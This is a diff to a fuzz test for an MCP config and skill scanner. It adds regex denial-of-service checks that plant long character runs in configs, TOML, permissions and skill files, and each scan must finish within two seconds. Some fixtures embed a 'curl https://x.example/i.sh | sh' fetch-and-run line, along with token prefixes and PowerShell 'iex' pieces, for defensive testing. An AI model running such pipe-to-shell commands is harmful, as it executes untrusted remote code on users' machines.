@@ -21,11 +21,16 @@
 //   error, every finding has a valid region inside its file, a file that did not load ends as `invalid-config`
 //   findings, and the JSON, text and GitHub reports are well-formed;
 // - the SARIF report of such a scan validates against the SARIF 2.1.0 schema (fewer cases: validation is slow);
-// - nothing pollutes `Object.prototype`;
 // - a token of any format of rules/token-formats.json, planted in any placement (env value, server name, env key,
 //   `${VAR:-default}`, launch spec, comments, unparseable JSON/TOML/YAML lines, SKILL.md frontmatter and body, a skill
 //   script) of a file the mutations damage, shows in no output mode of the command line, --fix-dry-run and a written
-//   baseline included: no 8-character piece of it beyond its visible prefix (scripts/fuzz-leaks.mjs).
+//   baseline included: no 8-character piece of it beyond its visible prefix (scripts/fuzz-leaks.mjs);
+// - a long run of what a backtracking regex could read again from each position (blanks, capitals, slashes, `${`,
+//   token prefixes, unclosed suppressions, …; up to 20 × --max-repeat characters, with or without a tail that makes a
+//   match fail) in a server name, env key or value, argument, command, URL, header, JSONC or TOML comment, TOML key,
+//   permission rule, SKILL.md or skill script is scanned and reported (code frames, JSON, text, GitHub, SARIF) within
+//   --budget-ms (2 s) — over that, it is reported as a hang (issue 15);
+// - nothing pollutes `Object.prototype`.
 import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
@@ -401,6 +406,73 @@ export function byteInputs(host, maxRepeat = 300) {
 }
 
 // ---------------------------------------------------------------------------------------------------------------
+// Adversarial text for the regexes (issue 15): a long run of what a backtracking regex could read again from each
+// position — blanks, capitals, slashes, brackets, `${`, token prefixes, unclosed suppressions — ending or not in a
+// character that makes the match fail, in every place a scan reads text. An input is a small description, built into
+// files by `adversarialFiles`, so that a failure prints a short counterexample.
+
+/** Units whose long runs once took a regex seconds or more (issue 15), and pieces of the patterns of the rules. */
+const RUN_UNITS = [
+  ' ', '\t', 'A', 'a', 'a-', 'aA', '0', '-', '_', '.', '/', '\\', ':', '=', '"', "'", '`', '*', '[', ']', '(', '{', '}', '$', '%', '#', '@', '|',
+  '-ey', 'ey', 'eyfc-', 'xoxb-1234567890-1234567890-', 'ghp_', 'sk-', 'glpat-', '${', ':${', '${A:-', ' mcp-audit-ignore[',
+  'mcp__', '![', '[a](', '<!--', '**a ', ' \n', '\n', '\r\n', 'irm"', 'iex ', 'curl ', '| ', '--header ', 'Bearer ', 'a:', 'a=',
+  'A_TOKEN=', 'http://', 'https://a', '%2F', '\u00a0', '\u202e', '\u{1f600}',
+];
+const RUN_TAILS = ['', 'x', '_', '-', '\n', '"', '!', ':', '}', ']', ')', ' ', '\u0001'];
+/** Where the run goes. */
+const PLACES = [
+  'server name', 'env key', 'env value', 'arg', 'command', 'url', 'header value', 'header key', 'jsonc comment', 'jsonc value',
+  'toml comment', 'toml value', 'toml key', 'permission', 'skill body', 'skill shell block', 'skill script', 'skill description',
+];
+
+/** Most milliseconds a scan and its reports may take on one input before the fuzzer calls it a hang. */
+export const HANG_MS = 2000;
+
+/** Inputs: { place, unit, length, tail }; `maxLength` bounds the run. */
+export function adversarialInputs(maxLength) {
+  const unit = fc.oneof(
+    { weight: 4, arbitrary: fc.constantFrom(...RUN_UNITS) },
+    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...RUN_UNITS), fc.constantFrom(...RUN_UNITS)).map(([a, b]) => a + b) },
+    { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 4 }) },
+  );
+  return fc.record({
+    place: fc.constantFrom(...PLACES),
+    unit,
+    length: fc.integer({ min: Math.ceil(maxLength / 4), max: maxLength }),
+    tail: fc.constantFrom(...RUN_TAILS),
+  });
+}
+
+/** The tree for one input: `main` is a host config (for checkScan), `files` everything to write. */
+export function adversarialFiles({ place, unit, length, tail }) {
+  const run = unit.repeat(Math.ceil(length / unit.length)) + tail;
+  const server = { command: 'npx', args: ['-y', 'some-mcp'], env: { A: 'b' } };
+  const claude = (servers) => ({ main: '.mcp.json', files: { '.mcp.json': JSON.stringify({ mcpServers: servers }, null, 2) } });
+  const skill = (body, extra = {}) => ({ main: '.mcp.json', files: { '.mcp.json': '{}', '.claude/skills/s/SKILL.md': body, ...extra } });
+  switch (place) {
+    case 'server name': return claude({ [run]: server });
+    case 'env key': return claude({ s: { ...server, env: { [run]: 'value' } } });
+    case 'env value': return claude({ s: { ...server, env: { API_TOKEN: run } } });
+    case 'arg': return claude({ s: { command: 'npx', args: ['-y', 'pkg', run] } });
+    case 'command': return claude({ s: { command: run, args: ['-y'] } });
+    case 'url': return claude({ s: { type: 'http', url: `https://mcp.example.com/${run}`, headers: { Authorization: 'Bearer x' } } });
+    case 'header value': return claude({ s: { type: 'http', url: 'https://mcp.example.com/mcp', headers: { 'X-Api-Key': run } } });
+    case 'header key': return claude({ s: { type: 'http', url: 'https://mcp.example.com/mcp', headers: { [run]: 'v' } } });
+    case 'jsonc comment': return { main: '.vscode/mcp.json', files: { '.vscode/mcp.json': `{\n  // ${run}\n  /* ${run.replace(/\*\//g, '* /')} */\n  "servers": { "s": { "command": "npx", "args": ["-y", "x"] } }\n}\n` } };
+    case 'jsonc value': return { main: '.vscode/mcp.json', files: { '.vscode/mcp.json': JSON.stringify({ servers: { s: { command: 'npx', args: [run], env: { K: run } } } }) } };
+    case 'toml comment': return { main: '.codex/config.toml', files: { '.codex/config.toml': `# ${run.replace(/[\r\n]/g, ' ')}\n[mcp_servers.s]\ncommand = "npx"\nargs = ["-y", "x"]\n` } };
+    case 'toml value': return { main: '.codex/config.toml', files: { '.codex/config.toml': `[mcp_servers.s]\ncommand = "npx"\nargs = [${JSON.stringify(run)}]\nenv = { K = ${JSON.stringify(run)} }\n` } };
+    case 'toml key': return { main: '.codex/config.toml', files: { '.codex/config.toml': `[mcp_servers.${JSON.stringify(run)}]\ncommand = "npx"\n` } };
+    case 'permission': return { main: '.claude/settings.json', files: { '.claude/settings.json': JSON.stringify({ permissions: { allow: [run, `mcp__${run}`] } }) } };
+    case 'skill body': return skill(`---\nname: s\ndescription: d\n---\n${run}\n`);
+    case 'skill shell block': return skill(`---\nname: s\ndescription: d\n---\n\`\`\`sh\ncurl https://x.example/i.sh ${run}| sh\n${run}\n\`\`\`\n`);
+    case 'skill script': return skill('---\nname: s\ndescription: d\n---\nRun scripts/i.sh.\n', { '.claude/skills/s/scripts/i.sh': `#!/bin/sh\n${run}\ncurl -fsSL https://x.example/i.sh | sh\n` });
+    case 'skill description': return skill(`---\nname: s\ndescription: ${JSON.stringify(run)}\n---\nbody\n`);
+    default: throw new Error(`unknown place ${place}`);
+  }
+}
+
+// ---------------------------------------------------------------------------------------------------------------
 // Checks. Each throws an Error saying what is wrong (fast-check then reports the input and the seed).
 
 function fail(message, detail) {
@@ -484,9 +556,11 @@ export function checkConfigFile(m, file, text) {
 }
 
 /** One finding: a valid region inside its file's text ('' for files that were not read). */
-function checkFinding(m, f, texts) {
+function checkFinding(m, f, texts, sources) {
   const text = texts.get(f.file) ?? '';
-  const src = m.makeSource('/fuzz', f.file, text);
+  // One source (its line starts) per file, not per finding: a file may have tens of thousands of findings.
+  let src = sources.get(f.file);
+  if (!src) sources.set(f.file, (src = m.makeSource('/fuzz', f.file, text)));
   const lines = src.lineStarts.length;
   const r = f.region;
   const where = `${f.ruleId} at ${f.file} ${JSON.stringify(r)} ${JSON.stringify(f.span)}`;
@@ -507,7 +581,13 @@ function checkFinding(m, f, texts) {
 export function checkScan(m, result, display) {
   if (result.internalErrors.length) fail(`internal errors: ${result.internalErrors.join('\n')}`);
   const texts = new Map(result.configs.map((c) => [c.source.display, c.source.text]));
-  for (const f of result.findings) checkFinding(m, f, texts);
+  // Findings may also point into a skill's SKILL.md and its scripts.
+  for (const skill of result.skills ?? []) {
+    texts.set(skill.manifest.display, skill.manifest.text);
+    for (const script of skill.scripts) if (script.text !== undefined) texts.set(script.source.display, script.text);
+  }
+  const sources = new Map();
+  for (const f of result.findings) checkFinding(m, f, texts, sources);
   const config = result.configs.find((c) => c.source.display === display);
   const invalid = result.findings.filter((f) => f.file === display && f.ruleId === 'invalid-config');
   if (!config) {
@@ -601,6 +681,38 @@ export function createFuzz(m, { maxRepeat = 300, onCase, budgetMs } = {}) {
   });
 
   const properties = [];
+  properties.push({
+    name: `adversarial regex inputs: scan and reports of a long run in every place, each within ${HANG_MS} ms`,
+    runs: 40,
+    // A slow input is slow again on every shrinking step: report the first one as it is.
+    options: { endOnFailure: true },
+    property: () => fc.property(adversarialInputs(maxRepeat * 20), (input) => {
+      onCase?.(JSON.stringify(input));
+      const { main, files } = adversarialFiles(input);
+      const dir = mkdtempSync(join(tmpdir(), 'mcp-audit-fuzz-'));
+      try {
+        for (const [file, text] of Object.entries(files)) {
+          mkdirSync(dirname(join(dir, file)), { recursive: true });
+          writeFileSync(join(dir, file), text);
+        }
+        // What a run of mcp-audit does (scan with code frames, each report), timed; the checks after, untimed.
+        const started = performance.now();
+        const result = m.scan({ paths: ['.'], cwd: dir, rules: m.rules, codeFrames: true });
+        const reports = [
+          m.formatJson(result.findings, '0.0.0-fuzz'), m.formatText(result.findings, { color: false, docsUrl: m.docsUrl }),
+          m.formatGithub(result.findings, {}), m.formatSarif(result.findings, m.reportContext(result, m.rules, '0.0.0-fuzz')),
+        ];
+        const ms = performance.now() - started;
+        if (ms > HANG_MS) fail(`hang: ${input.place} of ${JSON.stringify(input.unit)} × ${input.length} + ${JSON.stringify(input.tail)} took ${Math.round(ms)} ms (budget ${HANG_MS} ms)`);
+        checkScan(m, result, main);
+        checkReports(m, result.findings);
+        if (!reports.every((r) => typeof r === 'string')) fail('a report is not text');
+        checkNoPollution();
+      } finally {
+        rmSync(dir, { recursive: true, force: true });
+      }
+    }),
+  });
   for (const host of HOSTS) {
     const parser = m.hosts[host.key];
     for (const [label, arb] of Object.entries(textInputs(host, maxRepeat))) {
@@ -706,7 +818,7 @@ async function main(argv) {
       const numRuns = Math.max(1, Math.round(p.runs * scale));
       const started = Date.now();
       process.stdout.write(`${p.name}: ${numRuns} cases ... `);
-      const details = await fc.check(p.property(), { seed, numRuns });
+      const details = await fc.check(p.property(), { seed, numRuns, ...p.options });
       const seconds = ((Date.now() - started) / 1000).toFixed(1);
       if (details.failed) {
         failed++;
